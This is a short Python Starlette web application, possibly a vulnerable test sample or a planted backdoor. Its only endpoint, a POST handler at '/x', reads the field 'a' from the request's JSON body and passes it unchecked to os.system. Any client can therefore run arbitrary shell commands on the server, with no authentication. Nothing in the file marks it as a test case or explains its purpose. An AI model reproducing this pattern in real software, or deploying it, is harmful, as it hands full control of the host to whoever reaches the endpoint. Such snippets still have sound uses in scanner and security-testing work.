import os
from starlette.endpoints import HTTPEndpoint
from starlette.applications import Starlette
from starlette.routing import Route
class X(HTTPEndpoint):
    async def post(self, request):
        os.system((await request.json())['a'])
app = Starlette(routes=[Route('/x', X)])
